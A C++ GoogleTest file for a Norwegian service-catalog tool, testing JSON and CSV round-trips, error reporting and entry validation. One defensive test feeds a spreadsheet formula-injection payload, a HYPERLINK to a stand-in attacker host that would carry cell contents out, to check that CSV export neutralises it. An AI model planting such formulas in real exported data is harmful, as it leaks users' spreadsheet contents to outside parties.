#include <gtest/gtest.h>

#include "core/base/csv.h"
#include "core/catalog_io.h"

using namespace vakt;

namespace {
CatalogEntry sample() {
    CatalogEntry e;
    e.key = "svarut";
    e.name = "SvarUt";
    e.lifecycle = Lifecycle::Production;
    e.establishedYear = 2012;
    e.lastReviewed = QDate(2026, 9, 15);
    e.goal = "Sende brev, med «anførsel», komma, og\nlinjeskift";
    e.productOwnerEmail = "ingrid@example.no";
    e.dependsOn = {"dokumentlager", "print"};
    e.nationalComponents = {"ID-porten"};
    e.roles = {{Team::Development, "Teknisk leder", "henrik@example.no"}};
    e.documents = {{DocumentKind::Ros, "ROS SvarUt", "4.2", QDate(2026, 3, 12), "https://x.example/ros"}};
    return e;
}
std::string_view view(const QByteArray& b) { return {b.constData(), static_cast<std::size_t>(b.size())}; }
}  // namespace

TEST(CatalogIo, JsonExportReadsBackEqual) {
    const QByteArray json = catalogToJson({sample()});
    auto back = catalogFromJson(view(json), "x.json");
    ASSERT_TRUE(back) << back.message();
    ASSERT_EQ(back->size(), 1);
    EXPECT_EQ(back->front().entry, sample());
}

TEST(CatalogIo, CsvExportReadsBackEqual) {
    const QByteArray csv = catalogToCsv({sample(), sample()});
    auto back = catalogFromCsv(view(csv), "x.csv");
    ASSERT_TRUE(back) << back.message();
    ASSERT_EQ(back->size(), 2);
    EXPECT_EQ(back->at(1).entry, sample());
    EXPECT_EQ(back->at(1).line, 5);  // the first entry spans lines 2-4: its goal and its dependencies hold line breaks
}

// A cell a spreadsheet would run as a formula is written inert, and every value reads back as it was.
TEST(CatalogIo, CsvCellsAreNeverFormulasAndStillReadBackEqual) {
    CatalogEntry e = sample();
    e.name = "=HYPERLINK(\"https://angriper.example/?\"&A1,\"Klikk\")";
    e.goal = "+47 22 00 00 00";
    e.background = "-1+1";
    e.expectedUse = "@SUM(A1:A9)";
    e.description = "'=allerede sitert";
    e.specialTerms = "vanlig tekst";
    const QByteArray csv = catalogToCsv({e});
    auto records = csv::parse(view(csv));
    ASSERT_TRUE(records) << records.message();
    for (const auto& field : records->at(1).fields)
        EXPECT_TRUE(field.empty() || std::string_view("=+-@\t\r").find(field.front()) == std::string_view::npos) << field;
    auto back = catalogFromCsv(view(csv), "x.csv");
    ASSERT_TRUE(back) << back.message();
    EXPECT_EQ(back->front().entry, e);
}

TEST(CatalogIo, JsonErrorsNameFileLineAndField) {
    const std::string text =
        "[\n"
        "  {\"key\": \"a\", \"name\": \"A\"},\n"
        "  {\"key\": \"b\", \"name\": \"B\",\n"
        "   \"lifecycle\": \"forever\"}\n"
        "]\n";
    auto r = catalogFromJson(text, "cat.json");
    ASSERT_FALSE(r);
    EXPECT_NE(r.message().find("cat.json:3"), std::string::npos) << r.message();
    EXPECT_NE(r.message().find("field 'lifecycle'"), std::string::npos) << r.message();

    auto wrongType = catalogFromJson("[{\"key\": \"a\", \"name\": \"A\",\n \"established_year\": \"2012\"}]", "t.json");
    ASSERT_FALSE(wrongType);
    EXPECT_NE(wrongType.message().find("t.json:2"), std::string::npos) << wrongType.message();
    EXPECT_NE(wrongType.message().find("established_year"), std::string::npos);

    auto unknown = catalogFromJson("[{\"key\": \"a\", \"name\": \"A\", \"nmae\": \"typo\"}]", "u.json");
    ASSERT_FALSE(unknown);
    EXPECT_NE(unknown.message().find("field 'nmae'"), std::string::npos) << unknown.message();

    auto syntax = catalogFromJson("[\n{\"key\": \"a\",,}]", "s.json");
    ASSERT_FALSE(syntax);
    EXPECT_EQ(syntax.message().rfind("s.json:2:", 0), 0u) << syntax.message();
}

TEST(CatalogIo, CsvErrorsNameFileLineAndField) {
    auto badDate = catalogFromCsv("key,name,last_reviewed\nsvarut,SvarUt,2026-01-01\nprint,Print,31.12.2025\n", "c.csv");
    ASSERT_FALSE(badDate);
    EXPECT_NE(badDate.message().find("c.csv:3"), std::string::npos) << badDate.message();
    EXPECT_NE(badDate.message().find("last_reviewed"), std::string::npos);

    auto badColumn = catalogFromCsv("key,name,colour\n", "c.csv");
    ASSERT_FALSE(badColumn);
    EXPECT_NE(badColumn.message().find("column 'colour'"), std::string::npos);

    auto shortRow = catalogFromCsv("key,name\nsvarut\n", "c.csv");
    ASSERT_FALSE(shortRow);
    EXPECT_NE(shortRow.message().find("c.csv:2"), std::string::npos);
}

TEST(CatalogIo, ValidationRejectsBadValues) {
    auto check = [](auto mutate, const char* field) {
        CatalogEntry e = sample();
        mutate(e);
        auto s = validateCatalogEntry(e);
        ASSERT_FALSE(s) << field;
        EXPECT_NE(s.message().find(field), std::string::npos) << s.message();
    };
    check([](CatalogEntry& e) { e.key = "Svar Ut"; }, "key");
    check([](CatalogEntry& e) { e.name = "  "; }, "name");
    check([](CatalogEntry& e) { e.kind = "app"; }, "kind");
    check([](CatalogEntry& e) { e.establishedYear = 1850; }, "established_year");
    check([](CatalogEntry& e) { e.dependsOn << "svarut"; }, "depends_on");
    check([](CatalogEntry& e) { e.dependsOn << "print"; }, "depends_on");
    check([](CatalogEntry& e) { e.productOwnerEmail = "not-an-address"; }, "product_owner");
    check([](CatalogEntry& e) { e.documents[0].kind = "memo"; }, "documents");
    check([](CatalogEntry& e) { e.roles[0].team = "sales"; }, "roles");
    EXPECT_TRUE(validateCatalogEntry(sample()));
}
